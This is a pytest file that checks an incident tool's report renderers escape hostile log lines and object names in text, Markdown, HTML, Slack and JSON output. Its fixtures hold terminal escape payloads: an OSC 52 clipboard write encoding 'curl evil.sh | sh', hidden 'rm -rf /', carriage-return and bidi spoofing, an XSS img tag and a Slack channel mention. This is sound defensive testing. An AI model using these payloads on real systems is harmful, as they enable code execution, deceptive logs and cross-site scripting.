"""Hostile evidence never reaches the reader raw: escape sequences, control characters, bidi
overrides and markup in log lines and object names are shown, not obeyed, in every format.

Each string here is something an attacker who can write one log line or name one object could
try: write the reader's clipboard (OSC 52), retitle the terminal, hide text (SGR 8), print over
a line (CR), reorder it (U+202E), or smuggle HTML, links and @channel mentions into a ticket.
"""

from __future__ import annotations

import json
import re

import pytest

from paramedic.checks import model
from paramedic.reports import html_report, json_report, markdown_report, slack_report, text_report
from paramedic.runbooks import diagnosis

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
TITLE = "\x1b]0;all good, go back to sleep\x07"
HIDDEN = "\x1b[8mrm -rf /\x1b[0m"
CR = "FATAL: password authentication failed\rINFO: all fine                      "
BIDI = "user\u202eexe.sh"
C1 = "\x9b2J"
LOG_LINE = f"{OSC52}{TITLE}{HIDDEN} {CR} {BIDI} {C1}"
NAME = f"db\x1b[2J{BIDI}"
MARKUP = "<img src=x onerror=alert(1)> [click](http://evil) <!channel> **bold** `tick`"
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")


def _hostile() -> diagnosis.Diagnosis:
    finding = model.Finding(
        check="credentials",
        verdict=model.Verdict.CAUSE,
        confidence=model.Confidence.HIGH,
        summary=f"Secret app/{NAME} changed {MARKUP}",
        evidence=(
            model.Cite(text=LOG_LINE, source=f"log app/{NAME}/app:7"),
            model.Cite(text=MARKUP, source="Pod app/x"),
        ),
        fix=model.Fix(
            summary=f"restart {NAME}",
            steps=(
                model.FixStep(
                    description=f"restart {NAME}",
                    language="shell",
                    content=f"kubectl -n app rollout restart deployment/{NAME}",
                ),
            ),
            alternatives=(f"or else: kubectl -n app delete pod {NAME}",),
            rollback="none needed",
        ),
        why=f"because {CR}",
        verify=f"kubectl -n app get pods  # expect {HIDDEN}",
    )
    return diagnosis.Diagnosis(
        runbook="db-connectivity",
        title="t",
        incident={"source": f"Deployment app/{NAME}", "target": "Service data/db", "port": 5432},
        findings=(finding,),
        provenance=f"bundle ./{NAME}",
        gaps=(f"cannot read logs of {NAME}: {LOG_LINE}",),
        incident_title=f"incident {TITLE}",
    )


def _prose(markdown: str) -> str:
    """The Markdown outside fenced code blocks and outside the report's own `check` spans."""
    outside = re.sub(r"^(`{3,}).*?^\1$", "", markdown, flags=re.DOTALL | re.MULTILINE)
    outside = re.sub(r"\*\*(?=\S)|(?<=\S)\*\*", "", outside)  # the report's own bold
    outside = re.sub(r"(?<![\\*])\*(?=\S)|(?<=\S)(?<!\\)\*(?!\*)", "", outside)  # italics
    return re.sub(r"`[a-z-]+`", "", outside)


def _visible(rendered: str) -> None:
    for raw in RAW:
        assert raw not in rendered, f"raw {raw!r} reached the output"
    assert "\\x1b]52;c;" in rendered  # shown, so the reader sees something was there
    assert "\\u202e" in rendered and "\\x0d" in rendered and "\\x9b" in rendered


@pytest.mark.parametrize("width", [80, 120])
def test_text_shows_escape_sequences_instead_of_sending_them(width: int) -> None:
    _visible(text_report.render(_hostile(), width=width, color=False))


def test_text_in_colour_sends_only_its_own_colour_sequences() -> None:
    rendered = text_report.render(_hostile(), width=100, color=True)
    assert "\x1b]" not in rendered and "\x07" not in rendered and "\x1b[8m" not in rendered
    assert "\x1b[2J" not in rendered and "\\x1b[2J" in rendered


def test_markdown_escapes_html_links_and_sequences() -> None:
    rendered = markdown_report.render(_hostile())
    _visible(re.sub(r"\\(.)", r"\1", rendered))  # as the reader sees it, once rendered
    assert not re.search(r"(?<!\\)[<\[*`]", _prose(rendered)), "unescaped markup in prose"
    assert "\\<img src=x onerror=alert(1)\\>" in rendered
    assert "\\[click\\](http://evil)" in rendered and "\\*\\*bold\\*\\*" in rendered


def test_html_escapes_markup_and_shows_sequences() -> None:
    rendered = html_report.render(_hostile())
    _visible(rendered)
    assert "<img" not in rendered and "&lt;img src=x onerror=alert(1)&gt;" in rendered


def test_slack_escapes_mentions_links_and_sequences() -> None:
    rendered = slack_report.render(_hostile())
    assert "\\u001b" not in rendered.replace("\\\\x1b", "")  # no escaped-raw ESC in the JSON
    payload = json.loads(rendered)
    texts = json.dumps(payload, ensure_ascii=False)
    for raw in RAW:
        assert raw not in texts
    assert "<!channel>" not in texts and "&lt;!channel&gt;" in texts
    assert "<http" not in texts


def test_json_keeps_the_data_and_escapes_every_control_character() -> None:
    rendered = json_report.render(_hostile())
    for raw in RAW:
        assert raw not in rendered
    doc = json.loads(rendered)
    assert doc["findings"][0]["citations"][0]["text"] == LOG_LINE  # the data itself is intact
